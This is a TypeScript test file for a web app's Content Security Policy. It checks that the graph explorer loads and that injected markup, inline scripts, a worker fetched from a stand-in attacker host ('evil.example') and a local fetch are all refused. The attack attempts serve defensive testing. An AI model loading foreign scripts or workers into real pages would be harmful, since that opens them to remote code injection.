import { afterAll, beforeAll, expect, it } from 'vitest';

import { openApp, type TestApp } from '../support/app.ts';
import { openBrowser } from '../support/browser.ts';

let app: TestApp;
beforeAll(async () => {
  app = await openApp();
});
afterAll(() => app.close());

it('the explorer draws its graph and needs nothing that its security policy refuses', async () => {
  const browser = await openBrowser();
  const page = await browser.newPage();
  await page.goto(app.url);
  await page.locator('canvas').first().waitFor();
  await expect.poll(() => page.workers().length, { timeout: 10_000 }).toBe(1);
  // Throws if anything was refused.
  await browser.close();
});

it('the policy refuses what a page that was tricked would do', async () => {
  const browser = await openBrowser();
  const page = await browser.newPage();
  await page.goto(app.url);
  const done = await page.evaluate(async () => {
    const attempts = {
      markup: () => (document.body.innerHTML = '<b>text</b>'),
      'inline script': () =>
        document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
      'foreign worker': () => new Worker('http://evil.example/worker.js'),
      'foreign request': () => fetch('http://127.0.0.1:1/'),
    };
    const outcome: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        outcome.push(name);
      } catch {
        // Refused, as it should be.
      }
    }
    return outcome;
  });
  expect(done).toEqual([]);
  browser.forgive(/Trusted|Content Security Policy/);
  await browser.close();
});
